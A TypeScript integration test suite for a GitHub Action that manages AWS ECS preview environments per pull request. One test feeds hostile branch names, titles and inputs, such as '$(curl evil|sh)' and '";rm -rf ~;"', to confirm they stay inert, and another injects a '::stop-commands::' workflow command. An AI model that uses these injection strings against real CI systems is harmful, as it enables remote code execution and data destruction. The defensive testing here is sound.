import { spawn } from 'node:child_process';
import { existsSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import {
  DescribeServicesCommand,
  DescribeTaskDefinitionCommand,
  ECSClient,
} from '@aws-sdk/client-ecs';
import {
  type ActionRun,
  type FakeGitHub,
  listAccountResources,
  runAction,
  type SeededAccount,
  seedAccount,
  startGitHubServer,
  useAws,
} from '@berth/testkit';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { dispatchEvent, pullRequestEvent, scheduleEvent, sha } from './events.ts';

const aws = useAws();
const actionDir = resolve(import.meta.dirname, '..');
let gh: FakeGitHub;
let seeded: SeededAccount;
let workspace: string;

beforeAll(async () => {
  seeded = await seedAccount(aws.clientConfig);
  gh = await startGitHubServer();
  workspace = mkdtempSync(join(tmpdir(), 'preview-env-action-'));
  writeFileSync(
    join(workspace, 'preview-env.yml'),
    [
      `cluster: ${seeded.cluster}`,
      `referenceService: ${seeded.referenceService}`,
      `listenerArn: ${seeded.listenerArn}`,
      `domain: ${seeded.domain}`,
      `hostedZoneId: ${seeded.hostedZoneId}`,
      'namePrefix: pv',
      '',
    ].join('\n'),
  );
});
afterAll(async () => {
  await gh?.close();
});

const inventory = () =>
  listAccountResources(aws.clientConfig, {
    cluster: seeded.cluster,
    listenerArn: seeded.listenerArn,
    hostedZoneId: seeded.hostedZoneId,
  });

const image = (n: number) => `123456789012.dkr.ecr.us-east-1.amazonaws.com/app:build-${n}`;

function act(
  event: { name: string; payload: unknown },
  inputs: Record<string, string> = {},
  env: NodeJS.ProcessEnv = {},
): Promise<ActionRun> {
  return runAction(actionDir, {
    inputs,
    event,
    cwd: workspace,
    env: { ...aws.env, GITHUB_API_URL: gh.url, ...env },
    github: { token: gh.token },
  });
}

const stateSequence = (environment: string) =>
  gh.deploymentsOf(environment).map((d) => d.statuses.map((s) => s.state));
const commentsOn = (issue: number) => gh.comments.filter((c) => c.issue_number === issue);
const log = (run: ActionRun) => `${run.stdout}\n${run.stderr}`;

describe('preview-env action', () => {
  it('open, three pushes and close: one comment updated in place, deployments ending inactive, nothing left in AWS', async () => {
    const before = await inventory();
    gh.setPull({ number: 7, head: { ref: 'feature/login', sha: sha(70) } });

    const opened = await act(pullRequestEvent('opened', { number: 7, headSha: sha(70) }), {
      image: image(0),
    });
    expect(opened.exitCode, log(opened)).toBe(0);
    expect(opened.outputs).toMatchObject({
      name: 'pr-7',
      url: `https://pr-7.${seeded.domain}`,
      operation: 'created',
    });
    expect(opened.outputs['service-arn']).toMatch(
      /^arn:aws:ecs:us-east-1:\d{12}:service\/dev\/pv-pr-7$/,
    );
    expect(opened.outputs['task-definition-arn']).toMatch(/:task-definition\/pv-pr-7:\d+$/);
    expect(opened.summary).toContain(`https://pr-7.${seeded.domain}`);
    const during = await inventory();
    expect(during.services.map((s) => s.name)).toContain('pv-pr-7');
    expect(during.targetGroups.length).toBe(before.targetGroups.length + 1);
    expect(during.records.length).toBe(before.records.length + 1);
    // setup-node runs only when the job's node is older than 22 (the runner's node here).
    const nodeIsRecent = Number(process.versions.node.split('.')[0]) >= 22;
    expect(opened.steps.map((s) => [s.kind, s.skipped])).toEqual([
      ['run', false],
      ['uses', nodeIsRecent],
      ['run', false],
    ]);

    for (let push = 1; push <= 3; push++) {
      const run = await act(
        pullRequestEvent('synchronize', {
          number: 7,
          headSha: sha(70 + push),
          before: sha(69 + push),
        }),
        { image: image(push) },
      );
      expect(run.exitCode, log(run)).toBe(0);
      expect(run.outputs.operation).toBe('updated');
      expect(commentsOn(7)).toHaveLength(1);
      expect(commentsOn(7)[0]?.body).toContain(image(push));
      expect(commentsOn(7)[0]?.body).toContain(sha(70 + push).slice(0, 12));
    }

    const closed = await act(
      pullRequestEvent('closed', { number: 7, headSha: sha(73), merged: true }),
    );
    expect(closed.exitCode, log(closed)).toBe(0);
    expect(closed.outputs).toMatchObject({ name: 'pr-7', operation: 'deleted' });
    expect(closed.summary).toContain('deleted');

    const comments = commentsOn(7);
    expect(comments).toHaveLength(1);
    expect(comments[0]?.body).toContain('🗑️ Deleted');
    expect(comments[0]?.body).toContain('pull request #7 was closed');
    expect(gh.requestsTo('POST', /\/issues\/7\/comments$/)).toHaveLength(1);

    const deployments = gh.deploymentsOf('preview/pr-7');
    expect(deployments.map((d) => d.ref)).toEqual([sha(70), sha(71), sha(72), sha(73)]);
    expect(deployments.every((d) => d.transient_environment && !d.production_environment)).toBe(
      true,
    );
    expect(stateSequence('preview/pr-7')).toEqual(
      Array(4).fill(['in_progress', 'success', 'inactive']),
    );
    const success = deployments[3]?.statuses.find((s) => s.state === 'success');
    expect(success?.environment_url).toBe(`https://pr-7.${seeded.domain}`);
    expect(success?.log_url).toBe(
      'https://github.com/berth-dev/demo/actions/runs/1234567890/attempts/1',
    );

    expect(await inventory()).toEqual(before);
  }, 240_000);

  it('keeps hostile branch names, PR titles and inputs inert', async () => {
    const before = await inventory();
    const scratch = mkdtempSync(join(tmpdir(), 'hostile-'));
    const home = mkdtempSync(join(tmpdir(), 'home-'));
    writeFileSync(join(home, 'canary'), 'still here');
    const sentinel = join(scratch, 'pwned');
    const branch = `$(touch ${sentinel})\`touch ${sentinel}\`";rm -rf ~;"`;
    const title = [
      `$(curl evil|sh)`,
      `";rm -rf ~;"`,
      `\`touch ${sentinel}\``,
      `x\ntouch ${sentinel}`,
    ].join(' ');
    gh.setPull({ number: 8, title, head: { ref: branch, sha: sha(80) } });
    const env = { HOME: home };
    const inputs = {
      image: image(8),
      name: branch,
      env: `BRANCH=${branch}\nTITLE=";rm -rf ~;"\nCMD=$(curl evil|sh)`,
    };

    const opened = await act(
      pullRequestEvent('opened', { number: 8, headSha: sha(80), headRef: branch, title }),
      inputs,
      env,
    );
    expect(opened.exitCode, log(opened)).toBe(0);
    expect(opened.outputs.name).toMatch(/^[a-z0-9-]+$/);
    const comment = commentsOn(8)[0]?.body ?? '';
    expect(comment).toContain(`\`${opened.outputs.name}\``);

    // The values reached the task definition verbatim: data, never code.
    const ecs = new ECSClient(aws.clientConfig);
    const service = await ecs.send(
      new DescribeServicesCommand({
        cluster: seeded.cluster,
        services: [opened.outputs['service-arn'] as string],
      }),
    );
    const td = await ecs.send(
      new DescribeTaskDefinitionCommand({
        taskDefinition: service.services?.[0]?.taskDefinition as string,
      }),
    );
    const vars =
      td.taskDefinition?.containerDefinitions?.find((c) => c.name === seeded.container)
        ?.environment ?? [];
    expect(vars).toEqual(
      expect.arrayContaining([
        { name: 'BRANCH', value: branch },
        { name: 'TITLE', value: '";rm -rf ~;"' },
        { name: 'CMD', value: '$(curl evil|sh)' },
      ]),
    );

    const closed = await act(
      pullRequestEvent('closed', { number: 8, headSha: sha(80), headRef: branch, title }),
      { name: branch },
      env,
    );
    expect(closed.exitCode, log(closed)).toBe(0);
    expect(existsSync(sentinel)).toBe(false);
    expect(readdirSync(scratch)).toEqual([]);
    expect(readFileSync(join(home, 'canary'), 'utf8')).toBe('still here');
    expect(readdirSync(home)).toEqual(['canary']);
    expect(await inventory()).toEqual(before);
  }, 180_000);

  it('explains and exits cleanly on a fork pull request, touching nothing', async () => {
    const calls = aws.proxy.stats().total;
    const requests = gh.requests.length;
    const run = await act(pullRequestEvent('opened', { number: 9, headSha: sha(90), fork: true }), {
      image: image(9),
    });
    expect(run.exitCode, log(run)).toBe(0);
    expect(run.outputs.operation).toBe('skipped');
    expect(run.stdout).toMatch(
      /::notice::pull request #9 comes from a fork: GitHub gives fork pull requests no secrets/,
    );
    expect(run.summary).toContain('from a fork');
    expect(aws.proxy.stats().total).toBe(calls);
    expect(gh.requests.length).toBe(requests);
  });

  it('sweep removes environments whose pull request closed without a closed event', async () => {
    const before = await inventory();
    gh.setPull({ number: 21 });
    gh.setPull({ number: 22 });
    for (const n of [21, 22]) {
      const run = await act(pullRequestEvent('opened', { number: n, headSha: sha(n) }), {
        image: image(n),
      });
      expect(run.exitCode, log(run)).toBe(0);
    }
    gh.setPull({ number: 21, state: 'closed', merged: true });

    const swept = await act(scheduleEvent());
    expect(swept.exitCode, log(swept)).toBe(0);
    expect(swept.outputs.operation).toBe('swept');
    expect(JSON.parse(swept.outputs.environments ?? '[]')).toEqual(['pr-21']);
    expect(swept.summary).toContain('pull request #21 is merged');
    expect(commentsOn(21)[0]?.body).toContain('🗑️ Deleted');
    expect(stateSequence('preview/pr-21')).toEqual([['in_progress', 'success', 'inactive']]);
    expect(stateSequence('preview/pr-22')).toEqual([['in_progress', 'success']]);

    const listed = await act(dispatchEvent(), { mode: 'ls' });
    expect(listed.exitCode, log(listed)).toBe(0);
    expect(JSON.parse(listed.outputs.environments ?? '[]')).toEqual(['pr-22']);
    expect(listed.summary).toContain('#22');

    const closed = await act(pullRequestEvent('closed', { number: 22, headSha: sha(22) }));
    expect(closed.exitCode, log(closed)).toBe(0);
    expect(await inventory()).toEqual(before);
  }, 240_000);

  it('creates and deletes on request (workflow_dispatch), on the pull request the name gives', async () => {
    const before = await inventory();
    gh.setPull({ number: 71 });
    const created = await act(dispatchEvent(), { mode: 'create', name: '71', image: image(71) });
    expect(created.exitCode, log(created)).toBe(0);
    expect(created.outputs).toMatchObject({ name: 'pr-71', operation: 'created' });
    expect(commentsOn(71)).toHaveLength(1);
    expect(commentsOn(71)[0]?.body).toContain('⏳ Deploying');
    // The dispatched commit (GITHUB_SHA) is what the deployment records.
    expect(gh.deploymentsOf('preview/pr-71').map((d) => d.ref)).toEqual([
      'ffac537e6cbbf934b08745a378932722df287a53',
    ]);

    const deleted = await act(dispatchEvent(), { mode: 'delete', name: '71' });
    expect(deleted.exitCode, log(deleted)).toBe(0);
    expect(deleted.outputs).toMatchObject({ name: 'pr-71', operation: 'deleted' });
    expect(commentsOn(71)).toHaveLength(1);
    expect(commentsOn(71)[0]?.body).toContain('gone: deleted on request');
    expect(stateSequence('preview/pr-71')).toEqual([['in_progress', 'success', 'inactive']]);
    expect(await inventory()).toEqual(before);
  }, 180_000);

  it('makes nothing for a label added to a closed pull request', async () => {
    const calls = aws.proxy.stats().total;
    const requests = gh.requests.length;
    const event = pullRequestEvent('labeled', { number: 72, headSha: sha(72) });
    const payload = event.payload as { pull_request: { state: string } };
    payload.pull_request.state = 'closed';
    const run = await act(event, { image: image(72) });
    expect(run.exitCode, log(run)).toBe(0);
    expect(run.outputs.operation).toBe('skipped');
    expect(run.stdout).toContain('::notice::pull request #72 is closed');
    expect(aws.proxy.stats().total).toBe(calls);
    expect(gh.requests.length).toBe(requests);
  });

  it('turns GitHub API failures into warnings that neither stop nor hide the AWS result', async () => {
    const before = await inventory();
    gh.setPull({ number: 31 });
    const stop = gh.fail({ path: /\/repos\//, status: 500 });
    try {
      const opened = await act(pullRequestEvent('opened', { number: 31, headSha: sha(31) }), {
        image: image(31),
      });
      expect(opened.exitCode, log(opened)).toBe(0);
      expect(opened.outputs.url).toBe(`https://pr-31.${seeded.domain}`);
      expect(opened.stdout).toContain(
        '::warning::GitHub: could not create the deployment: GitHub API POST /repos/berth-dev/demo/deployments failed: HTTP 500',
      );
      expect(opened.summary).toContain('could not create or update the pull request comment');

      const closed = await act(pullRequestEvent('closed', { number: 31, headSha: sha(31) }));
      expect(closed.exitCode, log(closed)).toBe(0);
      expect(closed.outputs.operation).toBe('deleted');
    } finally {
      stop();
    }
    expect(gh.deploymentsOf('preview/pr-31')).toEqual([]);
    expect(await inventory()).toEqual(before);
  }, 180_000);

  it('reports an AWS failure on the deployment and the comment, leaving nothing behind', async () => {
    const before = await inventory();
    gh.setPull({ number: 41 });
    const stop = aws.proxy.fail({
      operation: 'CreateService',
      error: { code: 'InvalidParameterException', status: 400 },
    });
    let failed: ActionRun;
    try {
      failed = await act(pullRequestEvent('opened', { number: 41, headSha: sha(41) }), {
        image: image(41),
      });
    } finally {
      stop();
    }
    expect(failed.exitCode, log(failed)).toBe(1);
    expect(failed.stdout).toMatch(/::error::preview-env: create pr-41 failed: /);
    expect(failed.summary).toContain('create failed');
    expect(stateSequence('preview/pr-41')).toEqual([['in_progress', 'failure']]);
    expect(commentsOn(41)[0]?.body).toContain('❌ Failed');
    expect(await inventory()).toEqual(before);

    const closed = await act(pullRequestEvent('closed', { number: 41, headSha: sha(41) }));
    expect(closed.exitCode, log(closed)).toBe(0);
    expect(stateSequence('preview/pr-41')).toEqual([['in_progress', 'failure', 'inactive']]);
  }, 180_000);

  it('finishes the AWS operation in progress when the job is cancelled', async () => {
    const before = await inventory();
    gh.setPull({ number: 61 });
    const dir = mkdtempSync(join(tmpdir(), 'cancel-'));
    const eventFile = join(dir, 'event.json');
    const outputFile = join(dir, 'output');
    writeFileSync(
      eventFile,
      JSON.stringify(pullRequestEvent('opened', { number: 61, headSha: sha(61) }).payload),
    );
    writeFileSync(outputFile, '');
    aws.proxy.resetStats();
    aws.proxy.setLatency(150);
    const child = spawn(process.execPath, [join(actionDir, 'dist/index.mjs')], {
      cwd: workspace,
      stdio: ['ignore', 'pipe', 'pipe'],
      env: {
        ...aws.env,
        GITHUB_API_URL: gh.url,
        GITHUB_EVENT_NAME: 'pull_request',
        GITHUB_EVENT_PATH: eventFile,
        GITHUB_OUTPUT: outputFile,
        GITHUB_REPOSITORY: gh.repository,
        GITHUB_WORKSPACE: workspace,
        INPUT_IMAGE: image(61),
        INPUT_GITHUB_TOKEN: gh.token,
      },
    });
    let stdout = '';
    child.stdout.on('data', (d: Buffer) => {
      stdout += d.toString();
    });
    const exited = new Promise<number | null>((done) => child.on('close', (code) => done(code)));
    try {
      // Cancel as soon as the create has started talking to AWS.
      while (aws.proxy.stats().total === 0) await new Promise((r) => setTimeout(r, 5));
      child.kill('SIGINT');
      child.kill('SIGTERM');
      expect(await exited, stdout).toBe(0);
    } finally {
      aws.proxy.setLatency(0);
    }
    expect(stdout).toContain('::warning::SIGINT: the job is being cancelled');
    expect(readFileSync(outputFile, 'utf8')).toContain(`https://pr-61.${seeded.domain}`);
    expect((await inventory()).services.map((s) => s.name)).toContain('pv-pr-61');

    const closed = await act(pullRequestEvent('closed', { number: 61, headSha: sha(61) }));
    expect(closed.exitCode, log(closed)).toBe(0);
    expect(await inventory()).toEqual(before);
  }, 180_000);

  it('rejects bad input before touching AWS or GitHub', async () => {
    const calls = aws.proxy.stats().total;
    const requests = gh.requests.length;
    const noImage = await act(pullRequestEvent('opened', { number: 51, headSha: sha(51) }));
    expect(noImage.exitCode).toBe(2);
    expect(noImage.stdout).toContain('::error::input "image" is required');
    const badEnv = await act(pullRequestEvent('opened', { number: 51, headSha: sha(51) }), {
      image: image(51),
      env: 'GOOD=1\nnot a pair',
    });
    expect(badEnv.exitCode).toBe(2);
    expect(badEnv.stdout).toContain('input "env", entry 2');
    const badConfig = await act(pullRequestEvent('opened', { number: 51, headSha: sha(51) }), {
      image: image(51),
      config: 'missing.yml',
    });
    expect(badConfig.exitCode).toBe(2);
    // An input that would print a workflow command if logged raw (issue 13, item 6).
    const hostile = await act(pullRequestEvent('opened', { number: 51, headSha: sha(51) }), {
      image: 'nginx:1\n::stop-commands::x',
    });
    expect(hostile.exitCode).toBe(2);
    expect(hostile.stdout).toContain('::error::input "image" is not an image reference');
    for (const line of hostile.stdout.split('\n')) {
      expect(line.trimStart().startsWith('::stop-commands::')).toBe(false);
    }
    const push = await act({ name: 'push', payload: { ref: 'refs/heads/main' } });
    expect(push.exitCode).toBe(2);
    expect(push.stdout).toContain('mode auto does not know what to do on a "push" event');
    expect(aws.proxy.stats().total).toBe(calls);
    expect(gh.requests.length).toBe(requests);
  }, 120_000);
});
